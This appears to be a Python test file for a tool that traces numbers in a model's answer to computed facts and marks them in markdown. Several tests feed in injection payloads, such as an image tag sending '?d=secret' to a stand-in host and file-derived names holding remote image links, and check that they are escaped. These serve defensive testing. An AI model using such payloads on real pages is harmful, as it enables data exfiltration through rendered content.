"""The numbers check finds every number in an answer and traces it to a known value, or flags it."""
import re

from toolloop.marks import markdown_with_marks, number_sources, sources_markdown
from toolloop.numbers import Known, check_numbers

KNOWN = [Known("column:temp_max.mean", 16.439), Known("shape.rows", 1461), Known("range.start", "2012-01-01"),
         Known("column:precipitation.max", 55.9), Known("multiply", 597518582790373200)]


def marks(answer):
    return [(c.text, c.found) for c in check_numbers(answer, KNOWN)]


def test_rounded_and_grouped_numbers_are_traced():
    assert marks("1,461 days with a mean maximum of 16.4 °C") == [("1,461", True), ("16.4", True)]
    assert marks("The product is 597518582790373200.") == [("597518582790373200", True)]


def test_invented_numbers_are_flagged():
    assert marks("The mean was 17.9 and the maximum 60.2") == [("17.9", False), ("60.2", False)]
    assert marks("about 16.5") == [("16.5", False)]  # not how 16.439 rounds


def test_dates_and_their_parts():
    assert marks("From 2012-01-01 to 2015-12-31") == [("2012-01-01", True), ("2015-12-31", False)]
    assert marks("since 2012") == [("2012", True)]


def test_percent_negative_and_scientific():
    checked = check_numbers("a drop of -55.9 mm, 5.59e+01 mm, 12%", KNOWN)
    assert [(c.text.strip(), c.found) for c in checked] == [("-55.9", False), ("5.59e+01", True), ("12%", False)]


def test_the_exponents_of_a_unit_are_not_numbers_of_the_answer():
    """The 1.5B wrote "4.267e-05 kg m-2 s-1" in a real file's summary: the 1 of s-1 got a ✓ from an unrelated fact."""
    known = [*KNOWN, Known("var:pr.mean", 4.267e-05, "kg m-2 s-1"), Known("var:prob.max", 1)]
    assert [c.text for c in check_numbers("pr is 4.267e-05 kg m-2 s-1 (m s**-1, m^-2, ERA-40).", known)] == [
        "4.267e-05"]
    assert marks("from -55.9 to 55.9, days 10-20") == [("-55.9", False), ("55.9", True), ("10", False), ("20", False)]

def test_marks_are_inserted_after_each_number():
    answer = "1,461 days, max 99"
    checked = check_numbers(answer, KNOWN)
    assert markdown_with_marks(answer, checked) == "1,461:green[✓] days, max 99:orange[⚠]"
    assert [(n["text"], n["found"], n["why"]) for n in number_sources(checked)] == [
        ("1,461", True, "from shape.rows"), ("99", False, "not found among the computed facts: check it")]


def test_a_number_in_a_code_span_gets_its_mark_after_the_span():
    answer = "`statistic(\"steps\": 1461)` → 99 and ```\n1461\n```"
    html = markdown_with_marks(answer, check_numbers(answer, KNOWN))
    assert html.startswith('`statistic("steps": 1461)`:green[✓]')  # a mark inside backticks would show as text
    assert html.count(":green[") + html.count(":orange[") == 2  # the fenced block is shown as written, unmarked
    assert html.endswith("```\n1461\n```")


def test_a_number_in_math_gets_its_mark_after_the_math():
    """KaTeX shows HTML inside $...$ as a red error, so the mark goes after the math; after a block of math it goes
    on a line of its own (a "$$" that ends a block must end its line). A "$5 and $10" is prices, not math."""
    inline = r"The maximum is $\boxed{1461}$ days"
    html = markdown_with_marks(inline, check_numbers(inline, KNOWN))
    assert html == r"The maximum is $\boxed{1461}$:green[✓] days"
    block = "$$\n\\max = 1461\n$$\nand 99"
    html = markdown_with_marks(block, check_numbers(block, KNOWN))
    assert html.startswith("$$\n\\max = 1461\n$$\n\n:green[✓]") and html.endswith("and 99:orange[⚠]")
    prices = "costs $5 and $1461"
    html = markdown_with_marks(prices, check_numbers(prices, KNOWN))
    assert html == "costs $5:orange[⚠] and $1461:green[✓]"


def test_math_cannot_carry_html():
    """Inside math a "<" becomes KaTeX's \\lt, so even math the page would not take for math stays inert."""
    answer = "$<img src=https://x.example/p.png>$ and 5"
    shown = markdown_with_marks(answer, check_numbers(answer, []))
    assert "<img" not in shown and r"$\lt img src=https://x.example/p.png>$" in shown
    image = "$![a](https://x.example/p.png)$ and 5"  # a markdown image, should the page not take it for math
    assert "![" not in markdown_with_marks(image, check_numbers(image, []))


def test_a_date_with_its_time_of_day_is_one_claim():
    """'2006-01-16T12:00' (a tool's time of a maximum) is checked whole, not as 2006, 01, 16, 12 and 00."""
    known = [Known("where_extreme.at.time", "2006-01-16T12:00", "", "tos", "max_at.time", (), "")]
    checked = check_numbers('tos peaks at "2006-01-16T12:00", i.e. 2006-01-16 12:00; not on 2006-01-17.', known)
    assert [c.text for c in checked] == ["2006-01-16T12:00", "2006-01-16 12:00", "2006-01-17"]
    assert [c.found for c in checked] == [True, True, False]


def test_model_text_never_becomes_html_or_a_remote_image():
    """Answers are markdown on the page: an <img>, an <iframe> or a markdown image in model text
    must arrive as text, while a code span is left as written (markdown shows it as text)."""
    answer = ('T is 5 <img src=https://x.example/?d=secret> <iframe src="https://x.example"></iframe> '
              '![a](https://x/p.png) `<b>` & done')
    shown = markdown_with_marks(answer, check_numbers(answer, []))
    assert "<img" not in shown and "<iframe" not in shown and "![" not in shown
    assert "&lt;img src=https://x.example/?d=secret>" in shown and "`<b>`" in shown and "&amp; done" in shown


def test_a_warning_naming_a_hostile_variable_shows_its_name_as_text():
    """The ⚠ note names the variable a number really belongs to, and names come from files: a column named as a
    markdown image made the browser fetch it (caught by the no-outside-requests browser test)."""
    name = "![x](http://203.0.113.5/a.png) <img src=http://203.0.113.5/b.png>"
    answer = "The average rain, with a standard deviation of 2.167, varies."
    checked = check_numbers(answer, [Known(f"column:{name}.mean", 2.1667, variable=name, kind="mean")])
    assert checked[0].note.startswith(f"this is {name}'s mean")
    for shown in (markdown_with_marks(answer, checked), sources_markdown(number_sources(checked))):
        assert "![" not in shown and "](" not in shown and not re.search(r"(?<!\\)<img", shown)
        assert "!\\[x\\]\\(http://203.0.113.5/a.png\\) \\<img" in shown  # escaped: shown as written


def test_marks_keep_addresses_lists_and_braces_intact_and_a_model_cannot_write_its_own_mark():
    """An address is made a link whole, so a mark inside it would show as text: it gets none. A numbered list's
    "1." keeps its list (the mark goes after it). A "{" after a number would be read as the mark's settings and
    vanish. A model's own ":green[✓]" (or a name's ":red") is markup that would look like a mark: shown as written."""
    known = [Known("a", 5), Known("b", 7)]
    def shown(text):
        return markdown_with_marks(text, check_numbers(text, known))
    assert shown("See https://doi.org/10.5065/D6WD3XH5 for 5") == "See https://doi.org/10.5065/D6WD3XH5 for 5:green[✓]"
    assert shown("1. mean 5\n2) max 7") == "1. :orange[⚠] mean 5:green[✓]\n2) :orange[⚠] max 7:green[✓]"
    assert shown("5{x}") == "5:green[✓]\\{x}"
    assert shown("about forty:green[✓], flag:red") == "about forty\\:green[✓], flag\\:red"
